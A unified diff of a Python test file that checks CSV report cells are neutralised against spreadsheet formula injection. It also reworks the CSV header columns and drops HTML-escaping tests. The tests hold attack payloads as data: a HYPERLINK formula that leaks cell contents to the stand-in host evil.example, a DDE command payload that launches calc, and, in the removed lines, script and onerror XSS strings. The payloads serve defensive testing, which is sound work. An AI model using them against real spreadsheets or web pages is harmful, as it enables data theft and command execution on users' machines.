@@ -1,5 +1,5 @@
-"""The insights report renderers: CSV cells are neutralised against spreadsheet formula
-injection, HTML escapes whatever it shows."""
+"""The insights CSV and the cell every CSV is written with: cells are neutralised against
+spreadsheet formula injection, numbers stay numbers."""
 
 from __future__ import annotations
 
@@ -15,7 +15,7 @@ from csinsights.domain.documents import render_document
 from csinsights.domain.figures import PREVENTABLE_RATE as PREVENTABLE
 from csinsights.domain.figures import REASONS
 from csinsights.domain.metrics import METRICS, Counts
-from csinsights.reports import FORMULA_PREFIXES, neutralise, to_csv, to_html
+from csinsights.reports import FORMULA_PREFIXES, safe_cell, to_csv
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
 
@@ -29,12 +29,27 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
         "-2+3",
         "@SUM(A1)",
         "\t=cmd",
-        "\r=cmd",
         "=",
     ],
 )
 def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(cell: str) -> None:
-    assert neutralise(cell) == "'" + cell
+    assert safe_cell(cell) == "'" + cell
+
+
+@pytest.mark.parametrize(
+    ("cell", "safe"),
+    [
+        ("x;=cmd|'/Ccalc'!A0", "x;'=cmd|'/Ccalc'!A0"),
+        ('x;"=1', "x;'\"=1"),
+        ("a\n@A1", "a\n'@A1"),
+        ("\r=cmd", "'\r'=cmd"),
+        ("a;b", "a;b"),
+    ],
+)
+def test_text_a_semicolon_reader_would_cut_into_a_formula_is_quoted_there(
+    cell: str, safe: str
+) -> None:
+    assert safe_cell(cell) == safe
 
 
 @pytest.mark.parametrize(
@@ -42,12 +57,16 @@ def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(cell: str)
     ["", "A1SELLER", "US", "shipping", "1+1", "a=b", "less_than", "2026-11-20T00:00:00Z", " x"],
 )
 def test_other_text_is_unchanged(cell: str) -> None:
-    assert neutralise(cell) == cell
+    assert safe_cell(cell) == cell
 
 
-@pytest.mark.parametrize("number", [0, 3, -5, 12.5, -0.25, None, True])
-def test_numbers_and_non_text_are_unchanged(number: Any) -> None:
-    assert neutralise(number) is number
+@pytest.mark.parametrize("number", [0, 3, -5, 12.5, -0.25])
+def test_numbers_are_unchanged(number: Any) -> None:
+    assert safe_cell(number) is number
+
+
+def test_none_is_empty_and_a_flag_is_yes_or_no() -> None:
+    assert (safe_cell(None), safe_cell(True), safe_cell(False)) == ("", "yes", "no")
 
 
 def document(seller: str = "A1SELLER", stores: tuple[str, ...] = ("CA", "US")) -> dict[str, Any]:
@@ -65,7 +84,15 @@ def csv_rows(text: str) -> list[list[str]]:
 def test_csv_has_a_header_and_a_row_per_scope_and_metric() -> None:
     rows = csv_rows(to_csv(document()))
     header, body = rows[0], rows[1:]
-    assert header[:5] == ["seller_id", "as_of", "window_days", "store", "metric"]
+    assert header[:7] == [
+        "seller_id",
+        "as_of",
+        "window_days",
+        "store",
+        "metric",
+        "metric_label",
+        "unit",
+    ]
     assert len(body) == 3 * len(METRICS)
     assert [(r[3], r[4]) for r in body] == [
         (scope, metric) for scope in ("all", "CA", "US") for metric in METRICS
@@ -101,23 +128,6 @@ def test_csv_keeps_numbers_as_numbers() -> None:
     assert row["reason"] == ""  # None is an empty cell, not "None"
 
 
-def test_html_escapes_seller_and_store_ids() -> None:
-    seller = "<script>alert('seller')</script>"
-    store = '<img src=x onerror="alert(1)">'
-    doc = document(seller=seller, stores=(store, "US"))
-    page = to_html(doc)
-    assert "<script>" not in page
-    assert "<img" not in page
-    assert "&lt;script&gt;alert(&#x27;seller&#x27;)&lt;/script&gt;" in page
-    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in page
-
-
-def test_html_shows_a_status_badge_per_judged_figure() -> None:
-    page = to_html(document())
-    assert "A1SELLER" in page
-    assert "title='good'" in page or "title='fair'" in page or "title='poor'" in page
-
-
 def test_csv_carries_the_insight_details_after_the_original_columns() -> None:
     rows = list(csv.DictReader(io.StringIO(to_csv(document()))))
     header = list(rows[0])
@@ -133,3 +143,24 @@ def test_csv_carries_the_insight_details_after_the_original_columns() -> None:
     late = next(r for r in rows if r["store"] == "US" and r["metric"] == "late_contacts")
     assert (late["answered_late"], late["unanswered_late"], late["change"]) == ("0", "0", "0")
     assert late["low_sample"] == ""
+
+
+def test_csv_states_each_metric_s_label_unit_and_target_in_words() -> None:
+    rows = list(csv.DictReader(io.StringIO(to_csv(document()))))
+    by = {(r["store"], r["metric"]): r for r in rows}
+    csdr = by[("US", CSDR)]
+    assert (csdr["metric_label"], csdr["unit"]) == (
+        "Customer service dissatisfaction rate (%)",
+        "%",
+    )
+    assert (csdr["target"], csdr["target_condition"], csdr["target_text"]) == (
+        "25",
+        "less_than",
+        "below 25 %",
+    )
+    within = by[("all", "response_within_24h_rate")]
+    assert within["target_text"] == "at least 90 %"
+    late = by[("CA", "late_contacts")]
+    assert (late["unit"], late["target_text"]) == ("contacts", "0 contacts")
+    hours = by[("CA", "average_contact_response_time_hours")]
+    assert (hours["unit"], hours["target_text"]) == ("hours", "")
